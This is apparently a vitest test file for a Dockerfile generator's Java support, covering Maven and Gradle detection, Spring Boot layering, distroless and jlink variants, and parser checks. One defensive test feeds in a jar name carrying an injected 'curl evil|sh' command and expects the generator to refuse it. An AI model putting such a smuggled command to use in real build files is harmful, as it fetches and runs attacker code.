import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createProject } from '../../src/project.js';
import { java } from '../../src/stacks/java/index.js';
import type { JavaFacts } from '../../src/stacks/java/facts.js';
import { parsePom, interpolate } from '../../src/stacks/java/pom.js';
import { parseGradleBuild, parseGradleSettings } from '../../src/stacks/java/gradle.js';
import { stripComments } from '../../src/stacks/java/gradle-text.js';
import { javaMajor } from '../../src/stacks/java/version.js';
import { springBootPackaging } from '../../src/stacks/java/facts.js';
import { portValue } from '../../src/stacks/java/app-config.js';
import type { Detection, ResolvedOptions } from '../../src/types.js';
import { createRenderer } from '../../src/render/handlebars.js';
import { FIXTURES } from '../helpers.js';

async function detect(fixture: string): Promise<Detection<JavaFacts>> {
  const detection = await java.detect(await createProject(path.join(FIXTURES, fixture)));
  if (detection === null) throw new Error(`${fixture}: not detected as Java`);
  return detection;
}

function options(detection: Detection<JavaFacts>, over: Partial<ResolvedOptions> = {}): ResolvedOptions {
  return {
    port: detection.values.port, languageVersion: detection.values.languageVersion ?? '25', packageManager: detection.values.packageManager,
    startCommand: detection.values.startCommand ?? [], base: 'slim', healthcheck: true, choices: {}, features: {}, ...over,
  };
}

const render = await createRenderer();
const dockerfile = (detection: Detection<JavaFacts>, over: Partial<ResolvedOptions> = {}): string => {
  const plan = java.plan(detection, options(detection, over));
  return render(plan.template, plan.data);
};

describe('Java detection over the fixtures', () => {
  const table = [
    { fixture: 'java-spring-maven-wrapper', tool: 'maven', wrapper: true, jdk: '21', framework: 'Spring Boot', kind: 'spring-boot', jar: 'target/orders-1.4.0-SNAPSHOT.jar', port: 8081, probe: '/actuator/health' },
    { fixture: 'java-spring-gradle-kts', tool: 'gradle', wrapper: true, jdk: '17', framework: 'Spring Boot', kind: 'spring-boot', jar: 'build/libs/inventory-service-0.3.1.jar', port: 9090, probe: '/manage/health' },
    { fixture: 'java-maven-plain', tool: 'maven', wrapper: false, jdk: '17', framework: null, kind: 'fat-jar', jar: 'target/hello-server.jar', port: 8080, probe: null },
    { fixture: 'java-gradle-groovy', tool: 'gradle', wrapper: false, jdk: '11', framework: null, kind: 'install-dist', jar: null, port: 8080, probe: null },
    { fixture: 'java-maven-multimodule', tool: 'maven', wrapper: false, jdk: '21', framework: 'Spring Boot', kind: 'spring-boot', jar: 'target/billing-api.jar', port: 8088, probe: '/' },
    { fixture: 'java-quarkus', tool: 'maven', wrapper: true, jdk: '21', framework: 'Quarkus', kind: 'quarkus', jar: null, port: 8085, probe: '/q/health' },
  ] as const;
  it.for(table)('reads $fixture', async (row) => {
    const d = await detect(row.fixture);
    const module = d.facts.modules.find((m) => m.path === d.facts.defaultModule);
    expect([d.facts.tool, d.facts.wrapper, d.values.languageVersion, d.values.framework, d.values.port]).toEqual([row.tool, row.wrapper, row.jdk, row.framework, row.port]);
    expect(module?.packaging.kind).toBe(row.kind);
    if (row.jar !== null) expect(module?.packaging).toMatchObject({ jar: row.jar });
    expect(module?.probe?.kind === 'http' ? module.probe.path : null).toBe(row.probe);
  });

  it('picks the Spring Boot module of a multi-module build and offers --module', async () => {
    const d = await detect('java-maven-multimodule');
    expect(d.facts.defaultModule).toBe('api');
    expect(d.choices).toHaveLength(1);
    expect(d.choices[0]).toMatchObject({ key: 'module', flag: '--module', defaultValue: 'api' });
    expect(d.choices[0]?.options.map((o) => o.value)).toEqual(['api', 'core']);
    expect(d.facts.modules.find((m) => m.path === 'core')?.framework).toBeNull();
  });

  it('builds the chosen module with -pl <module> -am and refuses a library module without --cmd', async () => {
    const d = await detect('java-maven-multimodule');
    expect(dockerfile(d)).toContain('mvn -B -DskipTests -pl api -am package');
    expect(() => java.plan(d, options(d, { choices: { module: 'core' } }))).toThrow(/--cmd/);
    expect(() => java.plan(d, options(d, { choices: { module: 'nope' } }))).toThrow(/--module nope/);
    const withCmd = java.plan(d, options(d, { choices: { module: 'core' }, startCommand: ['java', '-jar', 'app.jar'] }));
    expect(render(withCmd.template, withCmd.data)).toContain('COPY --from=build /app/core/target/billing-core-5.0.0.jar ./app.jar');
  });

  it('uses the builder image when there is no wrapper, and the JDK image with it', async () => {
    expect(dockerfile(await detect('java-maven-plain'))).toContain('FROM maven:${MAVEN_VERSION}-eclipse-temurin-${JAVA_VERSION} AS base');
    expect(dockerfile(await detect('java-gradle-groovy'))).toContain('ARG GRADLE_VERSION=8'); // Gradle 9 needs JDK 17+
    expect(dockerfile(await detect('java-spring-gradle-kts'))).toContain('FROM eclipse-temurin:${JAVA_VERSION}-jdk AS base');
  });

  it('extracts Boot 3.3+ with jarmode=tools and older Boot with layertools', async () => {
    expect(dockerfile(await detect('java-spring-maven-wrapper'))).toContain('-Djarmode=tools -jar target/orders-1.4.0-SNAPSHOT.jar extract --layers --launcher');
    expect(dockerfile(await detect('java-spring-gradle-kts'))).toContain('-Djarmode=layertools -jar build/libs/inventory-service-0.3.1.jar extract');
  });
});

describe('Java runtime variants', () => {
  it('runs distroless as nonroot on the Debian 13 Java image and refuses a major distroless lacks', async () => {
    const d = await detect('java-spring-maven-wrapper');
    const text = dockerfile(d, { base: 'distroless' });
    expect(text).toContain('FROM gcr.io/distroless/java${JAVA_VERSION}-debian13:nonroot AS production');
    expect(text).toContain('USER nonroot:nonroot');
    expect(text).not.toContain('groupadd');
    expect(() => dockerfile(d, { base: 'distroless', languageVersion: '11' })).toThrow(/17, 21, 25/);
  });

  it('builds a jlink runtime with jdeps when --jlink is set', async () => {
    const d = await detect('java-spring-maven-wrapper');
    const text = dockerfile(d, { features: { jlink: true } });
    expect(text).toContain('FROM build AS jre');
    expect(text).toMatch(/jdeps .*--print-module-deps --class-path 'target\/extracted\/dependencies\/BOOT-INF\/lib\/\*'/);
    expect(text).toContain('--compress=zip-6 --output /jre');
    expect(text).toContain('FROM debian:13-slim AS production');
    expect(text).toContain('COPY --from=jre /jre /opt/java');
    expect(dockerfile(d, { features: { jlink: true }, base: 'distroless' })).toContain('FROM gcr.io/distroless/java-base-debian13:nonroot AS production');
    expect(() => dockerfile(d, { features: { jlink: true }, base: 'alpine' })).toThrow(/musl/);
  });

  it('writes HEALTHCHECK NONE with --no-healthcheck and drops the probe stage', async () => {
    const text = dockerfile(await detect('java-quarkus'), { healthcheck: false });
    expect(text).toContain('HEALTHCHECK NONE');
    expect(text).not.toContain('AS probe');
  });

  it('follows a --port override into the env and the probe', async () => {
    const text = dockerfile(await detect('java-spring-maven-wrapper'), { port: 9000 });
    expect(text).toContain('SERVER_PORT=9000');
    expect(text).toContain('http://127.0.0.1:9000/actuator/health');
  });
});

describe('pom.xml parsing', () => {
  it('refuses malformed XML with the file name and line', () => {
    expect(() => parsePom('pom.xml', '<project><artifactId>x</project>')).toThrow(/pom\.xml: is not well-formed XML \(line 1/);
  });

  it('resolves ${…} from properties, parent and project built-ins, and reports what it cannot', () => {
    const pom = parsePom('pom.xml', '<project><parent><artifactId>p</artifactId><version>9</version></parent><artifactId>a</artifactId><properties><rev>1.${minor}</rev><minor>2</minor></properties></project>');
    expect(interpolate('${project.artifactId}-${rev}', pom)).toBe('a-1.2');
    expect(interpolate('${project.version}', pom)).toBe('9');
    expect(interpolate('${from.ci}', pom)).toBeNull();
    expect(interpolate('${from.parent}', pom, { 'from.parent': 'x' })).toBe('x');
  });

  it('refuses a hostile finalName instead of writing it into a RUN line', async () => {
    const { CliError } = await import('../../src/errors.js');
    const d = await detect('java-maven-plain');
    const module = d.facts.modules[0];
    if (module === undefined || module.packaging.kind !== 'fat-jar') throw new Error('fixture changed');
    const hostile = { ...d, facts: { ...d.facts, modules: [{ ...module, packaging: { ...module.packaging, jar: 'target/x.jar; curl evil|sh' } }] } };
    expect(() => java.plan(hostile, options(hostile))).toThrow(CliError);
  });
});

describe('Gradle script reading', () => {
  it('keeps // inside strings while stripping comments', () => {
    expect(stripComments('url = "https://x" // c\n/* b */ x')).toBe('url = "https://x" \n x');
  });

  it.for([
    { name: 'Kotlin toolchain', src: 'java { toolchain { languageVersion.set(JavaLanguageVersion.of(21)) } }', jdk: '21' },
    { name: 'Groovy sourceCompatibility string', src: "sourceCompatibility = '1.8'", jdk: '8' },
    { name: 'Kotlin jvmToolchain', src: 'kotlin { jvmToolchain(17) }', jdk: '17' },
  ])('reads the JDK from a $name', ({ src, jdk }) => {
    expect(parseGradleBuild('build.gradle', src).javaVersion).toBe(jdk);
  });

  it('reads bootJar archive settings, and marks computed ones dynamic', () => {
    const b = parseGradleBuild('build.gradle', "version = '2.0'\nbootJar {\n  archiveFileName = 'svc.jar'\n}\n");
    expect(b.archives.bootJar.fileName).toBe('svc.jar');
    expect(b.version).toBe('2.0');
    expect(parseGradleBuild('build.gradle.kts', 'tasks.bootJar { archiveVersion.set(gitVersion()) }').archives.bootJar.dynamic).toBe(true);
    expect(parseGradleBuild('build.gradle.kts', 'version = System.getenv("V")').version).toBe('dynamic');
  });

  it('reads includes and rootProject.name from settings', () => {
    expect(parseGradleSettings('rootProject.name = "shop"\ninclude("api", ":libs:core")\ninclude \'web\'')).toEqual({ rootName: 'shop', includes: ['api', 'libs/core', 'web'] });
  });
});

describe('small parsers', () => {
  it.for([['1.8', '8'], ['17.0.2', '17'], ['temurin-21.0.1', '21'], ['21.0.5-tem', '21'], ['lts', null]] as const)('javaMajor(%s) = %s', ([input, major]) => {
    expect(javaMajor(input)).toBe(major);
  });

  it('takes the default from ${PORT:8088} and refuses non-ports', () => {
    expect([portValue('${PORT:8088}'), portValue('9090'), portValue('${PORT}'), portValue('70000')]).toEqual([8088, 9090, null, null]);
  });

  it('chooses the Boot extractor and launcher by version', () => {
    expect(springBootPackaging('3.3.0', null)).toMatchObject({ extractor: 'tools', launcher: 'org.springframework.boot.loader.launch.JarLauncher' });
    expect(springBootPackaging('3.2.9', null)).toMatchObject({ extractor: 'layertools', launcher: 'org.springframework.boot.loader.launch.JarLauncher' });
    expect(springBootPackaging('2.7.18', null)).toMatchObject({ extractor: 'layertools', launcher: 'org.springframework.boot.loader.JarLauncher' });
    expect(springBootPackaging(null, null)).toMatchObject({ extractor: 'tools' });
  });
});

/*
 * Static check standing in for real builds (Maven Central is unreachable here, so no Java image
 * can be built): every `COPY --from=build` source must be a path the build stage produces. What
 * Maven/Gradle produce is modelled here from each fixture's own files with plain regexes, apart
 * from the generator's parsers, so a wrong jar name or layer folder fails this test.
 */
const read = async (fixture: string, file: string): Promise<string | null> => (await createProject(path.join(FIXTURES, fixture))).readText(file);
const tag = (xml: string, name: string): string | null => new RegExp(`<${name}>\\s*([^<]+?)\\s*</${name}>`).exec(xml)?.[1] ?? null;

async function mavenOutputs(fixture: string): Promise<string[]> {
  const rootPom = (await read(fixture, 'pom.xml')) as string;
  const modules = [...rootPom.matchAll(/<module>([^<]+)<\/module>/g)].map((m) => `${m[1]}/`);
  const out: string[] = [];
  for (const dir of modules.length === 0 ? [''] : modules) {
    const pom = (await read(fixture, `${dir}pom.xml`)) as string;
    const withoutParent = pom.replace(/<parent>[\s\S]*?<\/parent>/, '').replace(/<dependencies>[\s\S]*<\/dependencies>/, '').replace(/<plugins>[\s\S]*<\/plugins>/, '');
    const props = (xml: string): Record<string, string> => Object.fromEntries([...(/<properties>([\s\S]*?)<\/properties>/.exec(xml)?.[1] ?? '').matchAll(/<([\w.-]+)>([^<]*)<\/\1>/g)].map((m) => [m[1], m[2]]));
    const artifactId = tag(withoutParent, 'artifactId') as string;
    const version = tag(withoutParent, 'version') ?? tag(/<parent>[\s\S]*?<\/parent>/.exec(pom)?.[0] ?? '', 'version');
    const vars: Record<string, string> = { ...props(rootPom), ...props(pom), 'project.artifactId': artifactId, 'project.version': version ?? '' };
    const finalName = (tag(withoutParent, 'finalName') ?? '${project.artifactId}-${project.version}').replace(/\$\{([^}]+)\}/g, (_, k: string) => vars[k] ?? '');
    out.push(`${dir}target/${finalName.replace(/\$\{([^}]+)\}/g, (_, k: string) => vars[k] ?? '')}.jar`);
    if (pom.includes('quarkus-maven-plugin')) out.push(...['lib/', 'quarkus-run.jar', 'app/', 'quarkus/'].map((p) => `${dir}target/quarkus-app/${p}`));
  }
  return out;
}

async function gradleOutputs(fixture: string): Promise<string[]> {
  const script = (await read(fixture, 'build.gradle.kts')) ?? ((await read(fixture, 'build.gradle')) as string);
  const settings = (await read(fixture, 'settings.gradle.kts')) ?? (await read(fixture, 'settings.gradle')) ?? '';
  const name = /rootProject\.name\s*=\s*["']([^"']+)/.exec(settings)?.[1] ?? 'app'; // the image's WORKDIR is /app
  const version = /^version\s*=\s*["']([^"']+)/m.exec(script)?.[1];
  const base = /archiveBaseName(?:\.set\(|\s*=)\s*["']([^"']+)/.exec(script)?.[1] ?? name;
  const out = [`build/libs/${[base, version].filter(Boolean).join('-')}.jar`];
  if (/id\s*\(?\s*["']application["']|^\s*application\s*$/m.test(script)) out.push(`build/install/${name}/lib/`);
  return out;
}

/** Instructions of one stage, continuation lines joined (the probe heredoc lives in another stage). */
function stage(dockerfileText: string, name: string): string[] {
  const lines = dockerfileText.replace(/\\\n\s*/g, ' ').split('\n');
  const start = lines.findIndex((l) => new RegExp(`^FROM \\S+ AS ${name}$`).test(l));
  const end = lines.findIndex((l, i) => i > start && l.startsWith('FROM '));
  return lines.slice(start, end === -1 ? undefined : end);
}

/** Paths present after the build stage: the tool's outputs plus what its RUN lines create from them. */
function simulateBuild(outputs: readonly string[], buildStage: readonly string[]): Set<string> {
  const produced = new Set(outputs);
  for (const line of buildStage.filter((l) => l.startsWith('RUN '))) {
    const extract = /-jar (\S+) extract .*--destination (\S+)/.exec(line);
    if (extract !== null) {
      expect(produced, `the extractor reads ${extract[1]}, which the build does not produce`).toContain(extract[1]);
      for (const layer of ['dependencies', 'spring-boot-loader', 'snapshot-dependencies', 'application']) produced.add(`${extract[2]}/${layer}/`);
    }
    const selected = /find (\S+) .*cp "\$1" (\S+)/.exec(line);
    if (selected !== null && [...produced].some((p) => p.startsWith(`${selected[1]}/`) && p.endsWith('.jar'))) produced.add(selected[2] as string);
    for (const dir of /mkdir -p ([^&]+)/.exec(line)?.[1]?.trim().split(/\s+/) ?? []) produced.add(`${dir}/`);
  }
  return produced;
}

describe('every COPY --from=build source exists in the build stage output', () => {
  const cases = [
    { fixture: 'java-spring-maven-wrapper', outputs: mavenOutputs },
    { fixture: 'java-maven-plain', outputs: mavenOutputs },
    { fixture: 'java-maven-multimodule', outputs: mavenOutputs },
    { fixture: 'java-quarkus', outputs: mavenOutputs },
    { fixture: 'java-spring-gradle-kts', outputs: gradleOutputs },
    { fixture: 'java-gradle-groovy', outputs: gradleOutputs },
  ];
  it.for(cases)('$fixture', async ({ fixture, outputs }) => {
    const d = await detect(fixture);
    for (const variant of [{}, { base: 'distroless' as const, languageVersion: '21' }, { features: { jlink: true } }]) {
      const text = dockerfile(d, variant);
      const produced = simulateBuild(await outputs(fixture), stage(text, 'build'));
      const copies = stage(text, 'production').filter((l) => l.startsWith('COPY --from=build '));
      expect(copies.length).toBeGreaterThan(0);
      for (const copy of copies) {
        const source = (copy.split(' ')[2] as string).replace(/^\/app\//, '');
        expect(produced, `${fixture}: ${copy}`).toContain(source);
      }
    }
  });

  it('copies the Spring Boot layers separately, dependencies first and application last', async () => {
    const copies = stage(dockerfile(await detect('java-spring-maven-wrapper')), 'production').filter((l) => l.startsWith('COPY --from=build'));
    expect(copies.map((c) => /extracted\/([\w-]+)\//.exec(c)?.[1])).toEqual(['dependencies', 'spring-boot-loader', 'snapshot-dependencies', 'application']);
  });

  it('selects the single jar when its name is computed at build time, and the check still holds', async () => {
    const d = await detect('java-maven-plain');
    const module = d.facts.modules[0];
    if (module === undefined || module.packaging.kind !== 'fat-jar') throw new Error('fixture changed');
    const unknown = { ...d, facts: { ...d.facts, modules: [{ ...module, packaging: { ...module.packaging, jar: null } }] } };
    const text = dockerfile(unknown);
    expect(text).toContain("find target -maxdepth 1 -name '*.jar' ! -name '*-plain.jar'");
    expect(text).toContain('COPY --from=build /app/target/selected/app.jar ./app.jar');
    const produced = simulateBuild(await mavenOutputs('java-maven-plain'), stage(text, 'build'));
    expect(produced).toContain('target/selected/app.jar');
  });
});

describe('generated Java Dockerfiles pass the project linter', () => {
  const fixtures = ['java-spring-maven-wrapper', 'java-spring-gradle-kts', 'java-maven-plain', 'java-gradle-groovy', 'java-maven-multimodule', 'java-quarkus'];
  it.for(fixtures)('%s (slim, distroless, alpine, jlink)', async (fixture) => {
    const { lintDockerfile } = await import('../../src/lint/index.js');
    const d = await detect(fixture);
    for (const variant of [{}, { base: 'distroless' as const, languageVersion: '25' }, { base: 'alpine' as const }, { features: { jlink: true } }]) {
      const plan = java.plan(d, options(d, variant));
      const findings = await lintDockerfile(render(plan.template, plan.data), { dockerignore: plan.ignore.join('\n') });
      expect(findings.filter((f) => f.severity !== 'info').map((f) => `${f.line} ${f.rule} ${f.message}`)).toEqual([]);
    }
  });
});
